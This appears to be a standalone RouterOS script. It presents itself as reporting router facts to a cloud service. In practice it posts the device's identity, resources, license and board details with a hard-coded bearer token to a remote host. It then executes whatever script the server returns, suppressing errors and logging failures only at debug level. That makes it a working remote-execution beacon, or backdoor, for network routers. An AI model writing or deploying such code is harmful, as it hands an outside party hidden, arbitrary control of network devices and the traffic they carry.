# Reports the facts of this router, runs what the server answers.
:do {
  # What the server wants to know, as key=value pairs. Not every board has every menu, hence the strings.
  :local hb ([:tostr [/system identity get]] . ";" . [:tostr [/system resource get]])
  :foreach m in={":return [/system license get]";":return [/system routerboard get]"} do={
    :do {
      :local f [:parse $m]
      :if ([:typeof $f] = "code") do={:set hb ($hb . ";" . [:tostr [$f]])}
    } on-error={}
  }
  :local r [/tool fetch url="https://cloud.example.net/poll" http-method=post http-header-field="Authorization: Bearer AaBbCc-DdEe_FfGgHh0123456789,Content-Type: text/plain" http-data=$hb output=user as-value check-certificate=yes-without-crl]
  :local d ($r->"data")
  :if ([:len $d] > 0) do={:execute script=$d}
} on-error={:log debug "openstrat: poll failed"}
